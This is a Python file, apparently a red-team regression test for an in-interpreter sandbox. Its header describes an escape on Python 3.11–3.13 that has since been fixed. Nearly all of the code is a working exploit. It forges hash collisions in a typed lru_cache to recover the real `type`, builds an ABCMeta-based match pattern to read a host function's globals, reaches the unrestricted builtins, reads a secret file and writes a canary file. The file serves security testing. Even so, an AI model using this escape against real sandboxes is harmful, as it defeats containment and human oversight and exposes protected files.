# mypy: ignore-errors
# Technique: a typed `functools.lru_cache` key is the arguments, the module's private marker
# (with keyword arguments), the keyword items, then each argument's real class: for a class
# argument the real `type`. `f(C, a, b)` and `f(q, k=x)` make keys of one length that line
# `type` up with the plugin's `x`, whose `__eq__` a dict lookup calls when the whole hashes
# are equal. Both are computable: `hash(type)` by inverting `hash(typing.Literal[C])` (a
# frozenset of `(C, type)`), the marker's from its address, tried near
# `id(functools.reduce)`, one cached call each. The real `type` of
# `collections.abc.Hashable` is `abc.ABCMeta`, whose three-argument call built an ABC
# admitting any subject with `__match_args__ = ("__globals__",)`, and a class pattern over a
# host function read its globals (the real builtins). Found in the sixteenth red-team pass
# of the in-interpreter layer; was a real in-interpreter escape (3.11-3.13) before the fix
# (the guest's `lru_cache` refuses `typed=True`; `type()` refuses the cache class).
import functools
import typing

from suaveplan import fs

U = "_" * 2
MASK = (1 << 64) - 1
P1 = 11400714785074694791
P2 = 14029467366897019727
P5 = 2870177450012600261
IP1 = pow(P1, -1, 1 << 64)
IP2 = pow(P2, -1, 1 << 64)


def signed(h):
    h &= MASK
    return h - (1 << 64) if h >> 63 else h


def step(acc, h):
    acc = (acc + (h & MASK) * P2) & MASK
    acc = ((acc << 31) | (acc >> 33)) & MASK
    return (acc * P1) & MASK


def lane(before, after):
    a = (after * IP1) & MASK
    a = ((a >> 31) | (a << 33)) & MASK
    return ((a - before) * IP2) & MASK


def unstep(after, h):
    a = (after * IP1) & MASK
    a = ((a >> 31) | (a << 33)) & MASK
    return (a - (h & MASK) * P2) & MASK


def tuple_hash(hashes):
    acc = P5
    for h in hashes:
        acc = step(acc, h)
    return signed(acc + (len(hashes) ^ (P5 ^ 3527539)))


def lane_for(hashes, index, whole):
    # The hash element `index` must have for a tuple of `hashes` to hash to `whole`.
    acc = ((whole & MASK) - (len(hashes) ^ (P5 ^ 3527539))) & MASK
    for h in reversed(hashes[index + 1 :]):
        acc = unstep(acc, h)
    before = P5
    for h in hashes[:index]:
        before = step(before, h)
    return signed(lane(before, acc))


def frozenset_member_hash(total):
    h = (((total & MASK) - 907133923) * pow(69069, -1, 1 << 64)) & MASK
    x = h
    for _ in range(64):
        x = h ^ (x >> 11) ^ (x >> 25)
    x ^= 2 * 1927868237
    t = ((x * pow(3644798167, -1, 1 << 64)) & MASK) ^ 89869747
    e = t
    for _ in range(64):
        e = (t ^ (e << 16)) & MASK
    return e


def pointer_hash(address):
    h = signed((address >> 4) | (address << 60))
    return -2 if h == -1 else h


class C:
    pass


SEEN = []


class Key:
    def __init__(self, h):
        self.h = h

    def __hash__(self):
        return self.h

    def __eq__(self, other):
        if not isinstance(other, Key):
            SEEN.append(other)
        return True


def real_type():
    pair = frozenset_member_hash(hash(typing.Literal[C]))
    t_hash = lane_for([hash(C), 0], 1, signed(pair))
    cached = functools.lru_cache(maxsize=None, typed=True)(lambda *a, **k: 0)
    cached(C, Key(11), Key(12))
    whole = tuple_hash([hash(C), 11, 12, t_hash, hash(Key), hash(Key)])
    anchor = id(functools.reduce)
    q = Key(13)
    for off in range(0, 4_000_000, 16):
        for address in (anchor + off, anchor - off - 16):
            layout = [13, pointer_hash(address), hash("k"), 0, hash(Key), hash(Key)]
            cached(q, k=Key(lane_for(layout, 3, whole)))
            for o in SEEN:
                if o is not C and repr(o) == "<class 'type'>":
                    return o
            SEEN.clear()
    return None


def attack(secret_path, canary_path):
    try:
        got = real_type()
    except Exception as exc:
        return repr(exc)[:120]
    if got is None:
        return "not found"
    meta = got(typing.get_origin(typing.Hashable))
    hook = classmethod(lambda cls, c: True)
    namespace = {U + "match_args" + U: (U + "globals" + U,), U + "subclasshook" + U: hook}
    any_ = meta("Any", (), namespace)
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
